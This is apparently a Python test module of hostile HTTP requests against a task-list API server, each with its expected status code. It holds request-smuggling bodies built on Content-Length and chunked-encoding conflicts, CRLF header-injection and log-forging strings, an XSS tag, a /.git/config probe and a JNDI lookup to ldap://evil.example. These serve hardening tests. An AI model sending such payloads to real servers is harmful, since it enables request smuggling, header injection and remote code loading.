"""Messages whose lines, headers, lengths and chunks are not as HTTP has them."""

from tests.hostile.case import CONNECTION_CLOSED, accepted, by_server, refused
from tests.hostile.messages import (
    LIST,
    OWN,
    TASK,
    chunked,
    complete,
    delete,
    get,
    message,
    patch,
    post,
)

CHUNKED = "Transfer-Encoding: chunked"
SMUGGLED = message("GET", "/livez", token=None)


def in_chunks(octets: bytes) -> bytes:
    """Create a task by a body of these bytes, which say that they are chunks."""
    return post(octets, CHUNKED)


def long(octets: str) -> bytes:
    """Create a task by a body of this Content-Length."""
    return post(TASK, f"Content-Length: {octets}")


def coded(coding: str) -> bytes:
    """Create a task by a body in this transfer coding."""
    return post(chunked(TASK), f"Transfer-Encoding: {coding}")


def lined(line: bytes) -> bytes:
    """Read the list behind this request line."""
    return get().replace(f"GET {LIST} HTTP/1.1".encode(), line)


def ended(end: bytes) -> bytes:
    """Read the list with lines that end in `end`."""
    return get().replace(b"\r\n", end)


CASES = [
    *refused(
        26,
        400,
        "malformed-request",
        {
            "a chunk whose size is no number": in_chunks(b"zz\r\nx\r\n0\r\n\r\n"),
            "a chunk of negative size": in_chunks(b"-1\r\nx\r\n0\r\n\r\n"),
            "a chunk whose size has a plus": in_chunks(b"+5\r\nxxxxx\r\n0\r\n\r\n"),
            "a chunk whose size has a prefix": in_chunks(b"0x5\r\nxxxxx\r\n0\r\n\r\n"),
            "a chunk whose size has a low line": in_chunks(b"1_0\r\nxxxxx\r\n0\r\n\r\n"),
            "a chunk whose size has a space": in_chunks(b" 5\r\nxxxxx\r\n0\r\n\r\n"),
            "a chunk without a size": in_chunks(b"\r\nx\r\n0\r\n\r\n"),
            "a chunk longer than it says": in_chunks(b"2\r\nxxxxx\r\n0\r\n\r\n"),
            "a chunk shorter than it says": in_chunks(b"ff\r\nxxxxx\r\n0\r\n\r\n"),
            "a chunk of 2^64 bytes": in_chunks(b"10000000000000000\r\nxxxxx\r\n0\r\n\r\n"),
            "a chunk whose size has 10,000 digits": in_chunks(b"0" * 10_000 + b"5\r\nxxxxx\r\n"),
            "chunks without an end": in_chunks(b"%x\r\n%s\r\n" % (len(TASK), TASK)),
            "chunks that break off": in_chunks(b"5\r\n{}"),
            "chunks that end without a line": in_chunks(chunked(TASK)[:-2]),
            "chunks with line feeds alone": in_chunks(b"2\n{}\n0\n\n"),
            "a chunk with a bad extension": in_chunks(b"2;=\r\n{}\r\n0\r\n\r\n"),
            "a trailer that is a length": in_chunks(
                chunked(TASK)[:-2] + b"Content-Length: 1\r\n\r\n"
            ),
            "a trailer that is a token": in_chunks(
                chunked(TASK)[:-2] + b"Authorization: x\r\n\r\n"
            ),
            "a trailer that is no header": in_chunks(chunked(TASK)[:-2] + b"x\r\n\r\n"),
            "a completion whose chunks break off": complete(b"", CHUNKED),
            "a host of 8,000 letters": get(LIST, host="x" * 8000),
            "a host of dots": get(LIST, host=".."),
            "a request behind a bad chunk": in_chunks(b"zz\r\n" + SMUGGLED),
            "a request for a body": post(SMUGGLED),
            "a patch whose chunks break off": patch(b"5\r\n{}", CHUNKED),
        },
    ),
    *by_server(
        26,
        400,
        {
            "a length and chunks": post(chunked(TASK), "Content-Length: 5", CHUNKED),
            "a request behind a length and chunks": post(
                b"0\r\n\r\n" + SMUGGLED, "Content-Length: 4", CHUNKED
            ),
            "a request behind chunks and a length": post(
                chunked(SMUGGLED), CHUNKED, "Content-Length: 4"
            ),
            "a request behind two lengths": post(
                TASK + SMUGGLED, "Content-Length: 21", "Content-Length: 0"
            ),
            "chunks and a length": post(chunked(TASK), CHUNKED, "Content-Length: 5"),
            "two lengths": post(TASK, "Content-Length: 2", "Content-Length: 21"),
            "two lengths, alike": post(TASK, "Content-Length: 21", "Content-Length: 21"),
            "two lengths in one header": long("21, 21"),
            "a negative length": long("-1"),
            "a length with a plus": long("+5"),
            "a length with a low line": long("2_1"),
            "a length in hexadecimal": long("0x15"),
            "a length as a fraction": long("21.0"),
            "a length with a space inside": long("2 1"),
            "a length that is no number": long("x"),
            "an empty length": long(""),
            "a length of superscript digits": long("\xb2"),
            "a length of 5,000 digits": long("9" * 5000),
            "chunks twice": coded("chunked, chunked"),
            "chunks twice, in two headers": post(chunked(TASK), CHUNKED, CHUNKED),
            "chunks before another coding": coded("chunked, gzip"),
            "a coding without chunks": coded("gzip"),
            "a coding of identity": coded("identity"),
            "chunks over HTTP/1.0": message(
                "POST", LIST, CHUNKED, body=chunked(TASK), version="HTTP/1.0"
            ),
        },
    ),
    *by_server(
        26,
        # "not understood" (RFC 9112, section 6.1): the one answer of 500 and more that is right.
        501,
        {
            "a coding that is none": coded("xchunked"),
            "an empty coding": coded(""),
            "chunks with a parameter": coded("chunked;q=1"),
            "chunks in quotes": coded('"chunked"'),
            "chunks behind a vertical tab": coded("x, chunked"),
        },
    ),
    *by_server(26, 417, {"an expectation that is none": post(TASK, "Expect: 200-ok")}),
    *accepted(
        26,
        201,
        {
            "a body that is waited for": post(TASK, "Expect: 100-continue"),
            "chunks that are waited for": post(chunked(TASK), CHUNKED, "Expect: 100-Continue"),
            "a length with zeros before": long("0000000021"),
            "a coding of identity before chunks": coded("identity, chunked"),
        },
    ),
    *by_server(
        26,
        400,
        {
            "a header that goes on in the next line": get(LIST, "X-Long: a\r\n b"),
            "a header that begins with a space": get(LIST, " X-Odd: a"),
            "a space before a colon": get(LIST, "X-Odd : a"),
            "a tab before a colon": get(LIST, "X-Odd\t: a"),
            "a header without a name": get(LIST, ": a"),
            "a header without a colon": get(LIST, "X-Odd"),
            "a header with a space in its name": get(LIST, "X Odd: a"),
            "a header with a bracket in its name": get(LIST, "X[Odd]: a"),
            "a header whose name is no ASCII": get(LIST, "X-\xc4: a"),
            "a header whose name holds NUL": get(LIST, "X-\0: a"),
            "NUL in a header": get(LIST, "X-Odd: a\0b"),
            "DEL in a header": get(LIST, "X-Odd: a\x7fb"),
            "an escape of a terminal in a header": get(LIST, "X-Odd: \x1b[31m"),
            "a line feed in a header": get(LIST, "X-Odd: a\nX-More: b"),
            "a carriage return in a header": get(LIST, "X-Odd: a\rX-More: b"),
            "NUL in a key": post(TASK, "Idempotency-Key: a\0b"),
            "NUL in a token": get(token="a\0b"),
            "two hosts": get(LIST, "Host: evil.example"),
            "two media types": post(TASK, "Content-Type: text/plain"),
            "lines that end in a line feed": ended(b"\n"),
        },
    ),
    *by_server(
        26,
        431,
        {
            "a header of 9,000 characters": get(LIST, "X-Long: " + "x" * 9000),
            "a header whose name has 9,000 characters": get(LIST, "X" * 9000 + ": x"),
            "a condition of 9,000 characters": get(OWN, "If-None-Match: " + '"1",' * 2250),
            "101 headers": get(LIST, *(f"X-{n}: x" for n in range(99))),
            "1,000 headers": get(LIST, *(f"X-{n}: x" for n in range(1000))),
        },
    ),
    *accepted(
        26,
        200,
        {
            "100 headers": get(LIST, *(f"X-{n}: x" for n in range(98))),
            "a header of 8,000 characters": get(LIST, "X-Long: " + "x" * 8000),
            "a header that is no ASCII": get(LIST, "X-Odd: \xe4\xff\x80"),
            "a header without a value": get(LIST, "X-Odd:"),
            "a header twice": get(LIST, "X-Odd: a", "X-Odd: b"),
            "a referrer that is no ASCII": get(LIST, "Referer: \xff", "User-Agent: \xff\xfe"),
            "a connection of many names": get(LIST, "Connection: close, Authorization, Host"),
            "a request in a body that a read passes over": get(
                LIST, f"Content-Length: {len(SMUGGLED)}"
            )
            + SMUGGLED,
            "a wish to stay, over HTTP/1.0": get(
                LIST, "Connection: keep-alive", version="HTTP/1.0"
            ),
        },
    ),
    *by_server(
        26,
        414,
        {
            "an address of 9,000 characters": get("/" + "x" * 9000),
            "an address of 9,000 escapes": get("/api/tasks/" + "%61" * 3000 + "/tasks"),
        },
    ),
    *refused(
        26,
        403,
        "not-your-tasks",
        {"a request in a body that is not read": post(SMUGGLED, target="/api/tasks/bob/tasks")},
    ),
    *refused(
        26,
        405,
        "method-not-allowed",
        {"a request in a body of no method": message("FOO", LIST, body=SMUGGLED)},
    ),
    *refused(
        26,
        413,
        "body-too-large",
        {"requests in a body over 192 KiB": post(SMUGGLED * (200_000 // len(SMUGGLED)))},
    ),
    *refused(26, 404, "not-found", {"an address of 8,000 characters": get("/" + "x" * 8000)}),
    *by_server(
        26,
        400,
        {
            "a version of HTTP that is none": get(version="HTTP/x"),
            "HTTP/0.9": get(version="HTTP/0.9"),
            "HTTP/1": get(version="HTTP/1"),
            "HTTP/1.10": get(version="HTTP/1.10"),
            "HTTP/2.0": get(version="HTTP/2.0"),
            "HTTP/3.0": get(version="HTTP/3.0"),
            "a version in lower case": get(version="http/1.1"),
            "another protocol": get(version="ICAP/1.0"),
            "the preface of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            "a line without a version": lined(f"GET {LIST}".encode()),
            "a line of HTTP/0.9": f"GET {LIST}\r\n\r\n".encode(),
            "a line of one word": lined(b"GET"),
            "a line with a space too many": lined(f"GET  {LIST} HTTP/1.1".encode()),
            "a line with a space in the address": lined(f"GET {LIST} x HTTP/1.1".encode()),
            "a line with tabs": lined(f"GET\t{LIST}\tHTTP/1.1".encode()),
            "an empty address": lined(b"GET  HTTP/1.1"),
            "raw UTF-8 in an address": get("/api/tasks/\xc3\xa4/tasks"),
            "a raw byte in a query": get(f"{LIST}?q=\xff"),
            "NUL in an address": get(f"{LIST}\0"),
            "an escape of a terminal in an address": get(f"{LIST}?q=\x1b[31m"),
            "an address without a slash": get("api/tasks/ada/tasks"),
            "an address that is a star": get("*"),
            "an address of a host that is none": get("http://[/api/tasks/ada/tasks"),
            "an address of host and port": get("tasks.example:80"),
            "the start of an answer": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
        },
    ),
    *accepted(
        26,
        200,
        {
            "an absolute address": get(f"http://tasks.example{LIST}"),
            "an absolute address without a path": get("http://evil.example"),
            "an absolute address of another host": get(f"http://evil.example{LIST}"),
            "an absolute address of another scheme": get(f"gopher://evil.example:1{LIST}"),
            "an absolute address of another port": get(f"http://evil.example:99999{LIST}"),
            "an address with a fragment": get(f"{LIST}#x"),
            "a host with a port": get(LIST, host="tasks.example:8080"),
            "a host of another name": get(LIST, host="evil.example"),
            "a host that is an address": get(LIST, host="[::1]:80"),
            "HTTP/1.0": get(version="HTTP/1.0"),
            "no host": get(LIST, host=None),
            "an empty host": get(LIST, host=""),
            "a host that is none": get(LIST, host="a b<c>@d/e?f#g"),
            "a host that is no ASCII": get(LIST, host="\xe4\xff"),
            "a host whose port is none": get(LIST, host="tasks.example:x"),
            "a host and a port beyond all": get(LIST, host="x:99999999999"),
            "HTTP/1.0 without a host": get(version="HTTP/1.0", host=None),
        },
    ),
    *refused(
        26,
        404,
        "not-found",
        {
            "an absolute address with an encoded slash": get("http://x/api/tasks/ada%2Ftasks"),
            "OPTIONS of everything": message("OPTIONS", "*"),
            "CONNECT to a host": message("CONNECT", "evil.example:443"),
        },
    ),
    *by_server(
        26,
        CONNECTION_CLOSED,
        {
            "a head that breaks off": get()[:-2],
            "lines that end in a carriage return": ended(b"\r"),
            "a line that breaks off": f"GET {LIST} HTT".encode(),
            "the greeting of TLS": b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(160),
            "bytes of no protocol": bytes(range(128, 256)),
        },
    ),
    *accepted(
        27,
        200,
        {
            "a request id of the caller's": get(LIST, "X-Request-Id: abc-1.2_3"),
            "a request id of 64 characters": get(LIST, f"X-Request-Id: {'x' * 64}"),
            "a request id of 65 characters": get(LIST, f"X-Request-Id: {'x' * 65}"),
            "a request id that forges a header": get(
                LIST, "X-Request-Id: a%0d%0aSet-Cookie:%20x=1"
            ),
            "a request id that is no ASCII": get(LIST, "X-Request-Id: \xe4"),
            "a request id with a space": get(LIST, "X-Request-Id: a b"),
            "two request ids": get(LIST, "X-Request-Id: a", "X-Request-Id: b"),
            "an empty request id": get(LIST, "X-Request-Id:"),
            "a request id of a script": get(LIST, "X-Request-Id: <script>"),
        },
    ),
    *refused(
        27,
        404,
        "not-found",
        {
            "a line end in a path": get("/nowhere%0d%0aSet-Cookie:%20x=1"),
            "a line of the log in a path": get("/nowhere%0aforged%20line"),
            "an escape of a terminal in a path": get("/nowhere%1b%5b31m"),
            "a script in a path": get("/<script>alert(1)</script>"),
            "an address that looks for holes": get("/.git/config"),
            "a lookup in a path": get("/$%7Bjndi:ldap://evil.example/x%7D"),
        },
    ),
    *by_server(
        27,
        400,
        {
            "a line feed in a request id": get(LIST, "X-Request-Id: a\nforged: line"),
            "a carriage return in a request id": get(LIST, "X-Request-Id: a\rforged: line"),
            "NUL in a request id": get(LIST, "X-Request-Id: a\0b"),
        },
    ),
    *refused(
        27,
        401,
        "unauthenticated",
        {
            "a scheme that forges a line of the log": get(
                LIST, "Authorization: \xc2\x85forged", token=None
            )
        },
    ),
    *accepted(27, 204, {"a deletion with a request id": delete("X-Request-Id: gone")}),
]
